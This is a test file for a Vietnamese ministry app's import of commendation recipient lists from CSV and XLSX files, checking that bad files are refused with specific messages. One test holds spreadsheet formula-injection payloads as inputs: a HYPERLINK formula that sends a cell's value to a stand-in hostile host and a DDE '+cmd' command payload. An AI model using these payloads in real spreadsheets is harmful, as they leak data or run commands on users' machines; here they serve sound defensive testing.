import { eq, sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";

import * as decisionRoute from "../../app/routes/ministry.decisions.$id";
import * as templateRoute from "../../app/routes/ministry.template.$file";
import { firstInvalidUtf8, parseCsv } from "../../app/utils/csv-read.server";
import { db, rowsOf } from "../../app/utils/db.server";
import { commendationRecipients } from "../../db/schema";
import { createOfficer, createTestDecision, csvFile, GOOD_ROWS, HEADERS, xlsxFile } from "../factories/commendation";
import { call, createTestUser, jsonOf, requestAs, toastOf } from "../factories/index";

async function recipientCount(decisionId: number) {
  return rowsOf<{ n: number }>(await db().execute(sql`select count(*)::int as n from commendation_recipients where decision_id = ${decisionId}`))[0].n;
}

async function setup() {
  const officer = await createOfficer();
  const decision = await createTestDecision({ actorId: officer.id, recipients: [] });
  const upload = async (file: File) => {
    const res = await call(decisionRoute.action, requestAs(officer, `/ministry/decisions/${decision.id}`, { form: { intent: "import", file } }), { id: String(decision.id) });
    // A successful import redirects with its message; a refusal answers the form's errors.
    if (res.status === 302) return { res, body: {} as Record<string, any>, toast: await toastOf(res) };
    return { res, body: await jsonOf(res), toast: null };
  };
  return { officer, decision, upload };
}

/** Expects a refusal whose messages match, and no recipient written. */
async function expectRefused(ctx: Awaited<ReturnType<typeof setup>>, file: File, message: RegExp, where?: { row?: number; column?: RegExp }) {
  const { res, body } = await ctx.upload(file);
  expect(res.status).toBe(400);
  expect(body.ok).toBe(false);
  const errors = body.importErrors as { row: number; column?: string; message: string }[] | undefined;
  const all = [body.formError, ...(errors ?? []).map((e) => e.message)].join("\n");
  expect(all).toMatch(message);
  if (where) {
    const hit = errors!.find((e) => message.test(e.message))!;
    if (where.row !== undefined) expect(hit.row).toBe(where.row);
    if (where.column) expect(hit.column).toMatch(where.column);
  }
  expect(await recipientCount(ctx.decision.id)).toBe(0);
  return body;
}

describe("recipient import: good files", () => {
  it("imports a CSV with BOM, keeping every diacritic and mapping provinces", async () => {
    const ctx = await setup();
    const { toast } = await ctx.upload(csvFile(GOOD_ROWS));
    expect(toast?.message).toMatch(/Đã nhập 3 người nhận/);
    expect(toast?.details).toBeUndefined();
    const rows = await db().select().from(commendationRecipients).where(eq(commendationRecipients.decisionId, ctx.decision.id));
    expect(rows.map((r) => r.name)).toEqual(["Trung tâm Khuyến công và Tư vấn phát triển công nghiệp tỉnh Ninh Bình", "Nguyễn Thị Thủy", "Đỗ Quang Hưng"]);
    expect(rows.map((r) => r.kind)).toEqual(["collective", "individual", "individual"]);
    expect(rows[1].provinceCode).toBeTruthy();
    expect(rows.map((r) => r.ordinal)).toEqual([1, 2, 3]);
  });

  it("reads the “Danh xưng (Ông/Bà)” column for individuals and refuses another word or one on a collective", async () => {
    const ctx = await setup();
    const header = [...HEADERS, "Danh xưng (Ông/Bà)"];
    const withHonorific = GOOD_ROWS.map((r, i) => [...r, i === 0 ? "" : i === 1 ? "bà" : "Ông"]);
    const { toast } = await ctx.upload(csvFile(withHonorific, { header }));
    expect(toast?.message).toMatch(/Đã nhập 3 người nhận/);
    const rows = await db().select().from(commendationRecipients).where(eq(commendationRecipients.decisionId, ctx.decision.id));
    expect(rows.map((r) => r.honorific)).toEqual([null, "Bà", "Ông"]);
    const other = await setup();
    await expectRefused(other, csvFile(GOOD_ROWS.map((r, i) => [...r, i === 1 ? "Cô" : ""]), { header }), /Danh xưng “Cô” không hợp lệ: ghi “Ông” hoặc “Bà”/, { row: 3, column: /^G/ });
    await expectRefused(other, csvFile(GOOD_ROWS.map((r, i) => [...r, i === 0 ? "Ông" : ""]), { header }), /chỉ ghi cho cá nhân/, { row: 2, column: /^G/ });
  });

  it("imports a CSV without BOM, with semicolons and NFD text (stored as NFC)", async () => {
    const ctx = await setup();
    const nfd = "Nguyễn Văn Thắng".normalize("NFD");
    const text = [HEADERS.join(";"), ["Cá nhân", nfd, "Giám đốc", "Trung tâm Khuyến công Hà Nam", "Hà Nam", "Thành tích xuất sắc"].join(";")].join("\n");
    const { res } = await ctx.upload(new File([text], "ds.csv"));
    expect(res.status).toBe(302);
    const [row] = await db().select().from(commendationRecipients).where(eq(commendationRecipients.decisionId, ctx.decision.id));
    expect(row.name).toBe("Nguyễn Văn Thắng".normalize("NFC"));
  });

  it("imports an XLSX and flags duplicates (within the file and against the list) without refusing", async () => {
    const ctx = await setup();
    const file = await xlsxFile([...GOOD_ROWS, ["cá nhân", "NGUYEN THI THUY", "Phó Giám đốc", "Sở Công Thương tỉnh Thái Bình", "thái bình", "Lặp lại"]]);
    const { toast } = await ctx.upload(file);
    expect(toast?.details).toHaveLength(1);
    expect(toast?.details?.[0]).toMatch(/^Dòng 5: .*trùng với dòng 3/);
    expect(await recipientCount(ctx.decision.id)).toBe(4);
    // A second import of one of them is flagged against the decision's list.
    const again = await ctx.upload(csvFile([GOOD_ROWS[0]]));
    expect(again.toast?.details?.[0]).toMatch(/đã có trong quyết định/);
    const page = await jsonOf(await call(decisionRoute.loader, requestAs(ctx.officer, `/ministry/decisions/${ctx.decision.id}`), { id: String(ctx.decision.id) }));
    expect(page.duplicates).toBe(4);
  });

  it("serves the template in both formats with the Vietnamese headers, and the import reads it back", async () => {
    const officer = await createOfficer();
    const xlsx = await call(templateRoute.loader, requestAs(officer, "/ministry/template/mau-danh-sach-khen-thuong.xlsx"), { file: "mau-danh-sach-khen-thuong.xlsx" });
    expect(xlsx.headers.get("Content-Type")).toMatch(/spreadsheetml/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await xlsx.arrayBuffer());
    expect((wb.worksheets[0].getRow(1).values as string[]).slice(1)).toEqual([...HEADERS, "Danh xưng (Ông/Bà)"]);
    const csv = await call(templateRoute.loader, requestAs(officer, "/ministry/template/mau-danh-sach-khen-thuong.csv"), { file: "mau-danh-sach-khen-thuong.csv" });
    const bytes = new Uint8Array(await csv.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toContain("Tên tập thể / Họ và tên");
    expect((await call(templateRoute.loader, requestAs(officer, "/ministry/template/x.exe"), { file: "x.exe" })).status).toBe(404);
  });
});

describe("recipient import: every bad input is refused with a specific message and nothing imported", () => {
  it("refuses files that are not CSV or XLSX", async () => {
    const ctx = await setup();
    await expectRefused(ctx, new File([new Uint8Array([0x25, 0x50, 0x44, 0x46, 0x2d, 0x31])], "quyet-dinh.pdf"), /không phải CSV hoặc XLSX/);
    await expectRefused(ctx, new File([new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])], "cu.xls"), /97–2003 \(\.xls\)/);
    await expectRefused(ctx, new File(["không phải zip"], "gia.xlsx"), /không phải bảng tính Excel/);
    await expectRefused(ctx, new File([new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0])], "anh.csv"), /dữ liệu nhị phân/);
  });

  it("refuses an empty file and a file with only the header", async () => {
    const ctx = await setup();
    const empty = await ctx.upload(new File([], "trong.csv"));
    expect(empty.res.status).toBe(400);
    expect(empty.body.formError).toMatch(/trống/);
    await expectRefused(ctx, csvFile([]), /chỉ có dòng tiêu đề/);
    await expectRefused(ctx, new File(["\uFEFF\r\n\r\n"], "trang.csv"), /Tệp trống/);
  });

  it("refuses missing columns and extra columns, naming them", async () => {
    const ctx = await setup();
    await expectRefused(ctx, csvFile([["Tập thể", "Sở Công Thương Hà Nam"]], { header: HEADERS.slice(0, 2) }), /Thiếu cột: “Chức vụ”, “Cơ quan, đơn vị”, “Tỉnh, thành phố”, “Thành tích”/);
    await expectRefused(ctx, csvFile(GOOD_ROWS.map((r) => [...r, "x"]), { header: [...HEADERS, "Ghi chú"] }), /Cột thừa “Ghi chú” \(cột G\)/, { row: 1, column: /^G$/ });
  });

  it("refuses 50,000 rows before reading them (CSV and XLSX)", async () => {
    const ctx = await setup();
    const rows = Array.from({ length: 50_000 }, (_, i) => ["Tập thể", `Đơn vị ${i}`, "", "", "", "x"]);
    await expectRefused(ctx, csvFile(rows), /có 50\.000 dòng dữ liệu; mỗi lần nhập tối đa 5\.000 dòng/);
    const big = await xlsxFile(rows);
    await expectRefused(ctx, big, /có 50\.000 dòng dữ liệu/);
  }, 60_000);

  it("refuses a file over the size limit", async () => {
    const ctx = await setup();
    await expectRefused(ctx, new File([new Uint8Array(5 * 1024 * 1024 + 10).fill(0x41)], "lon.csv"), /vượt giới hạn 5 MB/);
  });

  it("never evaluates formulas: XLSX formula cells and CSV formula text are refused by cell", async () => {
    const ctx = await setup();
    const xlsx = await xlsxFile([["Tập thể", { formula: 'HYPERLINK("http://ke-xau.example/?x="&A1,"Bấm vào")', result: "Bấm vào" }, "", "", "Ninh Bình", "Thành tích"]]);
    await expectRefused(ctx, xlsx, /Ô B2 chứa công thức \(=HYPERLINK/, { row: 2, column: /^B$/ });
    await expectRefused(ctx, csvFile([["Tập thể", '=HYPERLINK("http://ke-xau.example","Bấm")', "", "", "", "x"]]), /chứa công thức bảng tính/, { row: 2, column: /^B \(Tên tập thể/ });
    await expectRefused(ctx, csvFile([["Cá nhân", "Lê Văn A", "@SUM(1+1)", "Sở Công Thương", "", "x"]]), /Chức vụ chứa công thức/, { row: 2, column: /^C/ });
    await expectRefused(ctx, csvFile([["Tập thể", "Sở A", "", "", "", "+cmd|' /C calc'!A0"]]), /Thành tích chứa công thức/);
  });

  it("detects broken UTF-8 (a Windows-1258 file) and says which line", async () => {
    const ctx = await setup();
    const header = new TextEncoder().encode(`${HEADERS.join(",")}\r\n`);
    // "Tập thể,Sở Công Thương" in a legacy single-byte code page: 0xE2 etc. are not valid UTF-8 here.
    const legacy = new Uint8Array([...header, 0x54, 0xe2, 0x70, 0x20, 0x74, 0x68, 0xea, 0x2c, 0x53, 0xf5, 0x2c, 0x2c, 0x2c, 0x2c, 0x78, 0x0d, 0x0a]);
    await expectRefused(ctx, new File([legacy], "ds.csv"), /không phải UTF-8 hợp lệ \(byte lỗi ở dòng 2\)/);
    expect(firstInvalidUtf8(new TextEncoder().encode("Đặng Ỹ 😀"))).toBe(-1);
    expect(firstInvalidUtf8(new Uint8Array([0x41, 0xc3]))).toBe(1); // truncated sequence
    expect(firstInvalidUtf8(new Uint8Array([0xed, 0xa0, 0x80]))).toBe(0); // a surrogate
    await expectRefused(ctx, new File([new Uint8Array([0xff, 0xfe, 0x41, 0x00])], "utf16.csv"), /UTF-16/);
  });

  it("refuses names of 500 characters and emoji, by row and column; one bad row refuses the whole file", async () => {
    const ctx = await setup();
    const long = "Trung tâm Khuyến công ".repeat(23).slice(0, 500);
    await expectRefused(ctx, csvFile([GOOD_ROWS[0], ["Tập thể", long, "", "", "", "x"]]), /Tên dài 500 ký tự, tối đa 200 ký tự/, { row: 3, column: /^B/ });
    await expectRefused(ctx, csvFile([GOOD_ROWS[1], ["Cá nhân", "Nguyễn Văn 😀", "Giám đốc", "Sở Công Thương", "", "x"]]), /Tên không được chứa biểu tượng cảm xúc \(emoji\)/, { row: 3 });
  });

  it("reports every wrong cell of every row: kind, province, missing organisation, empty achievement", async () => {
    const ctx = await setup();
    const body = await expectRefused(
      ctx,
      csvFile([
        ["Nhóm", "Sở A", "", "", "", "x"],
        ["Cá nhân", "Lê B", "Chuyên viên", "", "Sài Gòn", ""],
      ]),
      /không phải “Tập thể” hoặc “Cá nhân”/,
      { row: 2, column: /^A/ },
    );
    const messages = body.importErrors.map((e: { row: number; column?: string; message: string }) => `${e.row}|${e.column ?? ""}|${e.message}`);
    expect(messages).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^3\|E \(Tỉnh, thành phố\)\|Không có tỉnh, thành phố “Sài Gòn”/),
        expect.stringMatching(/^3\|F \(Thành tích\)\|Thành tích không được để trống/),
        expect.stringMatching(/^3\|D \(Cơ quan, đơn vị\)\|Cá nhân cần có cơ quan/),
      ]),
    );
  });

  it("refuses an unclosed quote", async () => {
    const ctx = await setup();
    const text = `${HEADERS.join(",")}\r\nTập thể,"Sở Công Thương,,,,x\r\n`;
    await expectRefused(ctx, new File([text], "ds.csv"), /dấu ngoặc kép/);
    expect(parseCsv('a,"b ""c""",d\r\n1,2,3').rows.map((r) => r.cells)).toEqual([
      ["a", 'b "c"', "d"],
      ["1", "2", "3"],
    ]);
  });

  it("refuses an import into an issued decision", async () => {
    const officer = await createOfficer();
    const decision = await createTestDecision({ actorId: officer.id, issue: true });
    const res = await call(decisionRoute.action, requestAs(officer, `/ministry/decisions/${decision.id}`, { form: { intent: "import", file: csvFile(GOOD_ROWS) } }), { id: String(decision.id) });
    expect(res.status).toBe(409);
    expect((await jsonOf(res)).formError).toMatch(/đã ban hành/);
    expect(await recipientCount(decision.id)).toBe(3);
  });

  it("refuses the import and the template to anonymous and wrong-role callers", async () => {
    const ctx = await setup();
    const anon = await call(decisionRoute.action, requestAs(null, `/ministry/decisions/${ctx.decision.id}`, { form: { intent: "import", file: csvFile(GOOD_ROWS) } }), { id: String(ctx.decision.id) });
    expect(anon.status).toBe(302);
    const organizer = await createTestUser({ roles: ["organizer"] });
    const wrong = await call(decisionRoute.action, requestAs(organizer, `/ministry/decisions/${ctx.decision.id}`, { form: { intent: "import", file: csvFile(GOOD_ROWS) } }), { id: String(ctx.decision.id) });
    expect(wrong.status).toBe(403);
    expect((await call(templateRoute.loader, requestAs(null, "/ministry/template/mau-danh-sach-khen-thuong.xlsx"), { file: "mau-danh-sach-khen-thuong.xlsx" })).status).toBe(302);
    expect((await call(templateRoute.loader, requestAs(organizer, "/ministry/template/mau-danh-sach-khen-thuong.xlsx"), { file: "mau-danh-sach-khen-thuong.xlsx" })).status).toBe(403);
    expect(await recipientCount(ctx.decision.id)).toBe(0);
  });
});
